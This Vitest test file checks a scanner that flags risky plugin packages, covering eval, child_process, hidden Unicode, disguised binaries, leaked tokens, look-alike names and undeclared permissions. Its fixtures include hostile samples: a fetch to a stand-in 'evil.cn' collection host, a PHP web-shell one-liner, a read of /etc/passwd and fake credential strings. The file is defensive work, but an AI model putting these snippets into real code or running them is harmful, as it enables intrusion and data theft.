import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { LOCALES, translate } from '../../../common/index.js';

import type { PackageForm } from '../../../packaging/index.js';
import { readPackage } from '../../../packaging/index.js';
import { writeRealZip } from '../../../packaging/testing/real-zip.js';

import type { PackageFinding } from './finding.js';
import { findProblems, type FindingContext } from './find-problems.js';
import { similarNames } from './similar-names.js';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'svc-findings-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const form: PackageForm = { type: 'plugin', slug: 'demo', name: 'Demo', version: '1.0.0' };
const manifest = JSON.stringify({ id: 'demo', name: 'Demo', version: '1.0.0' });

async function find(files: Record<string, string | Buffer>, context?: FindingContext, as = form): Promise<PackageFinding[]> {
  const whole = { 'plugin.json': manifest, 'index.js': 'module.exports = () => {};\n', ...files };
  const path = await writeRealZip(
    join(folder, 'demo.zip'),
    Object.fromEntries(Object.entries(whole).map(([name, content]) => [`demo/${name}`, content])),
  );
  const { contents, manifest: read } = await readPackage(path, { ...as, slug: 'demo' });
  const found = await findProblems(contents, as, read, context);
  for (const { text } of found) {
    for (const locale of LOCALES) expect(translate(locale, text.key, text.params)).not.toMatch(/^packages\.|\{[a-z]+\}/);
  }
  return found;
}

/** What code, names and contents say; that a manifest asks for nothing has a part of its own. */
const about = (found: PackageFinding[]): PackageFinding[] => found.filter(({ rule }) => rule !== 'permissions_missing');
const rules = (found: PackageFinding[]): string[] => about(found).map(({ rule, line }) => `${rule}:${line}`);

describe('findProblems', () => {
  it('reports nothing for a plain package', async () => {
    expect(await find({ 'lib/a.js': 'const evaluate = (x) => retrieval(x); // a medieval( thing\n', 'readme.md': '# Demo\n' })).toEqual([]);
  });

  it.each([
    ['eval("x")', 'eval:3'],
    ['const f = new Function("return 1")', 'new_function:3'],
    ['[].constructor.constructor("return 1")()', 'new_function:3'],
    ['setTimeout("alert(1)", 1)', 'timer_text:3'],
    ["const vm = require('node:vm')", 'vm:3'],
    ["import { spawn } from 'child_process'", 'child_process:3'],
    ['process.binding("fs")', 'native:3'],
    ['process.exit(1)', 'process_control:3'],
    ['const key = process.env.API_KEY', 'environment:3'],
    ["const { readFile } = require('fs/promises')", 'files:3'],
    ["import net from 'node:net'", 'network:3'],
    ["read('/etc/passwd')", 'system_path:3'],
    ['<?php system($_GET["c"]);', 'php_exec:3'],
    ['<?php assert($_POST["x"]);', 'php_assert:3'],
    ['<?php $x = base64_decode("cGhw");', 'base64_code:3'],
    ['"postinstall": "node x.js"', 'install_script:3'],
    ['const a = "\u202e gnp"', 'hidden.bidi:3'],
    ['const a\u200bb = 1', 'hidden.zero_width:3'],
    ['const a = "\u{e0101}\u{e0102}\u{e0103}"', 'hidden.variation:3'],
    ['fetch("https://collect.evil.cn/x")', 'host:3'],
  ])('%s', async (code, rule) => {
    const found = about(await find({ 'lib/a.js': `'use strict';\n\n${code}\n` }));
    expect(rules(found)).toContain(rule);
    expect(found.every(({ file, excerpt }) => file === 'lib/a.js' && !/[\u202e\u200b\u{e0101}]/u.test(excerpt))).toBe(true);
  });

  it.each([
    ['aws_key', `AKIA${'IOSFODNN7EXAMPLE'.slice(0, 16)}`],
    ['private_key', '-----BEGIN RSA PRIVATE KEY-----'],
    ['github_token', `ghp_${'a1B2'.repeat(9)}`],
    ['gitlab_token', `glpat-${'a1B2'.repeat(5)}`],
    ['npm_token', `npm_${'a1B2'.repeat(9)}`],
    ['slack_token', `xoxb-${'1'.repeat(12)}-abcdef`],
    ['stripe_key', `sk_live_${'a1B2'.repeat(6)}`],
    ['google_key', `AIza${'a1B2c'.repeat(7)}`],
    ['aliyun_key', `LTAI${'a1B2'.repeat(4)}`],
    ['tencent_key', `AKID${'a1B2'.repeat(8)}`],
    ['jwt', `eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(30)}.${'c'.repeat(40)}`],
    ['url_password', 'mysql://root:hunter22@db.internal/panel'],
    ['password', 'password: "Tr0ub4dor&3x"'],
  ])('reports a secret without repeating it: %s', async (kind, secret) => {
    const [finding] = (await find({ 'a.js': `const x = '${secret}';` })).filter(({ rule }) => rule === `secret.${kind}`);
    expect(finding).toMatchObject({ file: 'a.js', line: 1 });
    if (kind !== 'private_key') expect(finding!.excerpt).not.toContain(secret);
  });

  it('does not take an example for a password', async () => {
    const found = await find({
      'a.js': 'password: "your-password-1"; secret = "${SECRET_1234}"; api_key: "xxxxxxxxxx"; token = "<token-123>"; pwd = "changeme123";',
    });
    expect(found).toEqual([]);
  });

  it('finds matches across block borders, with their line numbers', async () => {
    for (const before of [32_760, 32_768, 65_530, 131_070]) {
      const found = await find({ 'a.js': `${'// 1234567\n'.repeat(Math.floor(before / 11))}eval(x); require("child_process");` });
      const line = Math.floor(before / 11) + 1;
      expect(rules(found)).toEqual([`eval:${line}`, `child_process:${line}`]);
    }
  });

  it('detects programs, WebAssembly and archives by their first bytes, whatever the name', async () => {
    const kinds = {
      elf: '7f454c4602',
      pe: '4d5a900003',
      macho: 'cffaedfe07',
      wasm: '0061736d01',
      zip: '504b030414',
      gzip: '1f8b08',
      zstd: '28b52ffd',
    };
    const files = Object.fromEntries(Object.entries(kinds).map(([name, hex]) => [`img/${name}.png`, Buffer.from(hex, 'hex')]));
    const found = await find(files);
    expect(found.map(({ rule, file }) => `${rule} ${file}`).sort()).toEqual([
      ...[
        'archive img/gzip.png',
        'archive img/zip.png',
        'archive img/zstd.png',
        'binary img/elf.png',
        'binary img/macho.png',
        'binary img/pe.png',
        'wasm img/wasm.png',
      ],
    ]);
  });

  it('scans pictures that can be scripts', async () => {
    expect(rules(await find({ 'a.gif': 'GIF89a=1;/*\0*/eval(x)' }))).toEqual(['eval:1']);
    expect(await find({ 'a.png': Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('eval(x)')]) })).toEqual([]);
  });

  describe('an unreadable file', () => {
    const random = (length: number): Buffer =>
      Buffer.from(Array.from({ length }, (_, i) => createHash('sha256').update(String(i)).digest()[0]!));
    const GBK = Buffer.from('d6d0cec4b2e2cad420', 'hex');

    it.each<[string, string, Buffer]>([
      ['with NUL bytes', 'payload.dat', Buffer.concat([Buffer.from('header '), Buffer.alloc(4), Buffer.from('rest')])],
      ['with a NUL byte far behind', 'late.js', Buffer.concat([Buffer.from('a = 1;\n'.repeat(30_000)), Buffer.alloc(1)])],
      ['of random bytes, without any NUL', 'key', Buffer.from(random(5_000).map((byte) => byte || 1))],
      ['of some bytes', 'few.bin', Buffer.from('8f01e2a9fe13', 'hex')],
      ['of control characters', 'xor.txt', Buffer.from(Buffer.from('eval(atob("x"))').map((byte) => byte & 0x1f))],
      [
        'that begins like a picture and is not named like one',
        'lib/data.bin',
        Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), random(500)]),
      ],
      ['that is named like a picture and does not begin like one', 'img/a.png', random(500)],
      ['in UTF-16', 'a.txt', Buffer.from('\ufeffnot what it seems', 'utf16le')],
      ['that is GBK but for its end', 'b.txt', Buffer.concat([Buffer.alloc(180_000, GBK), Buffer.from('d6', 'hex')])],
      ['of bytes GBK has no characters for', 'c.txt', Buffer.alloc(100, Buffer.from('ff', 'hex'))],
    ])('is reported: %s', async (_what, path, bytes) => {
      expect((await find({ [path]: bytes })).filter(({ rule }) => rule === 'opaque')).toMatchObject([
        { severity: 'warning', file: path, line: 0 },
      ]);
    });

    it.each<[string, string, Buffer | string]>([
      ['Chinese in UTF-8', 'a.txt', '中文说明，没有别的。'.repeat(20_000)],
      ['Chinese in GBK, over the border of two pieces', 'a.txt', Buffer.concat([Buffer.from('x'), Buffer.alloc(180_000, GBK)])],
      ['a text that names the replacement character', 'a.md', '乱码显示为 \ufffd 的中文\n'.repeat(200)],
      ['a European text in one byte a letter', 'a.txt', Buffer.from('d\xe9j\xe0 vu, \xe7a va; na\xefve caf\xe9\n'.repeat(50), 'latin1')],
      ['colours for a terminal', 'a.txt', '\x1b[31mred\x1b[0m\n'],
      ['a page break', 'a.txt', 'one\ftwo\n'],
      ['nothing', 'empty', ''],
      ['a picture under the name of another kind', 'a.jpg', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), random(500)])],
      ['a film', 'a.mp4', Buffer.concat([Buffer.from('0000001866747970', 'hex'), random(500)])],
      ...['woff2:774f4632', 'ttf:00010000', 'ico:00000100', 'webp:52494646', 'pdf:25504446'].map((kind): [string, string, Buffer] => {
        const [suffix, hex] = kind.split(':') as [string, string];
        return [suffix, `a.${suffix}`, Buffer.concat([Buffer.from(hex, 'hex'), random(500)])];
      }),
    ])('is not reported for %s', async (_what, path, content) => {
      expect((await find({ [path]: content })).filter(({ rule }) => rule === 'opaque')).toEqual([]);
    });

    it('has one finding, not two, if its type is known', async () => {
      const found = await find({
        'a.so': Buffer.concat([Buffer.from('7f454c4602', 'hex'), random(500)]),
        'a.bin': Buffer.concat([Buffer.from('1f8b08', 'hex'), random(500)]),
      });
      expect(found.map(({ rule, file }) => `${rule} ${file}`)).toEqual(['binary a.so', 'program_file a.so', 'archive a.bin']);
    });

    it('is scanned anyway if it might run', async () => {
      expect((await find({ 'a.js': Buffer.from('eval(x); "\0"') })).map(({ rule }) => rule)).toEqual(['eval', 'opaque']);
    });
  });

  it('reports files that should not be in a package', async () => {
    const found = await find({ '.git/config': '', '.env': '', '.env.example': '', id_rsa: '', 'run.sh': '', 'panel.db': '' });
    expect(found.map(({ rule, file }) => `${rule} ${file}`)).toEqual([
      'secret_file .env',
      'secret_file id_rsa',
      'vcs .git/config',
      'program_file run.sh',
      'data_file panel.db',
    ]);
  });

  it('reports minified files, with the longest line', async () => {
    const found = await find({
      'a.js': `x\n${'a=1;'.repeat(10_000)}\n`,
      'b.min.js': 'a=1;'.repeat(10_000),
      'c.min.js': 'a=1;'.repeat(300_000),
      'd.txt': 'a'.repeat(50_000),
    });
    expect(found.map(({ file, severity, line, text }) => [file, severity, line, text.params.kb])).toEqual([
      ['a.js', 'warning', 2, 40],
      ['c.min.js', 'warning', 1, 1172],
      ['b.min.js', 'info', 1, 40],
    ]);
  });

  it('reports look-alike names and reserved slugs', async () => {
    const found = await find({}, { existingSlugs: ['dem0', 'other'], existingNames: ['Dеmo'] });
    expect(found.map(({ rule, file }) => `${rule} ${file}`)).toEqual(['lookalike ', 'lookalike ']);
    expect(rules(await find({}, {}, { ...form, slug: 'admin' }))).toContain('reserved_slug:0');
  });

  it('passes on problems of the manifest', async () => {
    const found = await find({ 'plugin.json': '{"id":"x","version":"2","main":"no.js"}' });
    expect(found.map(({ rule, severity }) => `${rule} ${severity}`)).toEqual([
      'manifest.slug danger',
      'manifest.entry danger',
      'manifest.version warning',
    ]);
  });

  it('returns at most 200, the most serious first, and says that some were omitted', async () => {
    const files = Object.fromEntries(Array.from({ length: 150 }, (_, i) => [`${i}.js`, 'process.env.A; process.exit(1);\n'.repeat(20)]));
    const found = await find({ ...files, 'z.js': 'eval(1)' });
    expect(found).toHaveLength(200);
    expect(found[0]).toMatchObject({ rule: 'eval', file: 'z.js' });
    expect(found.at(-1)).toMatchObject({ rule: 'more' });
  });

  it('reports where it had to stop', async () => {
    let time = 0;
    const found = await find({ 'a.js': 'eval(1)' }, { timeoutMs: 10, now: () => (time += 6) });
    expect(found.map(({ rule }) => rule)).toContain('not_finished');
  });

  it('does not block the event loop, whatever the text', async () => {
    const nasty = ['-eyJ-eyJ', 'eval(', 'http://a', 'password="', 'xoxb-', 'AKIA', '\u200b', 'require("', '=> ', 'https://a:b'].map(
      (part) => part.repeat(Math.ceil(400_000 / part.length)),
    );
    let turns = 0;
    const timer = setInterval(() => (turns += 1), 0);
    await find(Object.fromEntries(nasty.map((text, i) => [`${i}.js`, text])));
    clearInterval(timer);
    expect(turns).toBeGreaterThan(20);
  });
});

describe('permissions of a manifest', () => {
  const asked = async (permissions: unknown, code: string, file = 'index.js'): Promise<string[]> => {
    const found = await find({ 'plugin.json': JSON.stringify({ id: 'demo', name: 'Demo', version: '1.0.0', permissions }), [file]: code });
    return found
      .filter(({ rule }) => rule.startsWith('permission'))
      .map(({ rule, line, text }) => `${rule}:${line} ${String(Object.values(text.params!))}`);
  };

  it.each([
    ['hosts', 'this.svc.hosts.find()'],
    ['hosts', 'await e.hosts.provision({})'],
    ['orders', 'e.orders.create(x)'],
    ['network', 'svc.svc_http_get(url)'],
    ['network', 'const r = await fetch(url)'],
    ['network', "require('https')"],
    ['tables', 'await this.db.query(`SELECT 1`)'],
    ['tables', "require('@nestjs/typeorm')"],
    ['raw_sql', "this.db.all('SELECT * FROM SVC_user')"],
    ['raw_sql', "new DataSource({ type: 'better-sqlite3' })"],
    ['routes', "svc.svc_register_route('GET', '/shop', show)"],
    ['routes', 'svc.svc_register_home(show)'],
    ['settings', 'svc.svc_save_payment_methods([])'],
    ['host_passwords', 'svc.hosts.setPassword(1, x)'],
    ['customers', 'svc.customerAccounts.serve("/a")'],
    ['mail', 'svc.mail.send({})'],
    ['fs', "const fs = require('node:fs')"],
    ['child_process', "import { spawn } from 'node:child_process'"],
    ['child_process', "process.getBuiltinModule('fs')"],
  ])('%s is detected in %s', async (permission, code) => {
    expect(await asked([], `// a\n${code};`)).toContain(`permission_unasked:2 ${permission}`);
    const named = (await asked([permission, 'hosts'], `// a\n${code};`)).filter((finding) => !finding.endsWith(' hosts'));
    expect(named).toEqual([]);
    expect(await asked(undefined, `// a\n${code};`)).toEqual([expect.stringContaining(permission)]);
  });

  it('are compared with those used; without uses nothing is reported', async () => {
    expect(await asked([], 'const hosts = []; hosts.find(Boolean); config.hosts; // fetch what prefetches')).toEqual([]);
    expect(await asked(undefined, 'module.exports = () => {};')).toEqual([]);
    expect(await asked(['network:api.example.com'], 'svc.http({ url })')).toEqual([]);
    expect(await asked(['fs', 'reads minds', 'network:a.cn'], '')).toEqual([
      'permission_unused:0 fs',
      'permission_unknown:0 reads minds',
      'permission_unused:0 network:a.cn',
    ]);
    expect(await asked([], "svc.svc_register_route('GET', '/p/demo/x', show); svc.svc_register_route('GET', '/pay/demo/x', show)")).toEqual(
      [],
    );
    // What browsers run, and words about code.
    expect(await asked([], 'fetch(url)', 'assets/page.js')).toEqual([]);
    expect(await asked([], 'svc.hosts.find()', 'readme.md')).toEqual([]);
  });
});

describe('similarNames', () => {
  const existing = ['hosting_shop', 'alipay', 'wechat-pay', 'modern', 'ab'];
  it.each([
    ['hosting-shop', ['hosting_shop', true]],
    ['HostingSh0p', ['hosting_shop', true]],
    ['аlipay', ['alipay', true]],
    ['modem', ['modern', true]],
    ['alipai', ['alipay', false]],
    ['wechatpya', ['wechat-pay', false]],
    ['hosting_shoop', ['hosting_shop', false]],
  ])('%s', (name, [similar, lookalike]) => {
    expect(similarNames(name, existing)).toEqual([{ name: similar, lookalike }]);
  });

  it.each(['alipay', 'ac', 'backup', 'pay', '…'])('%s resembles none', (name) => {
    expect(similarNames(name, existing)).toEqual([]);
  });
});
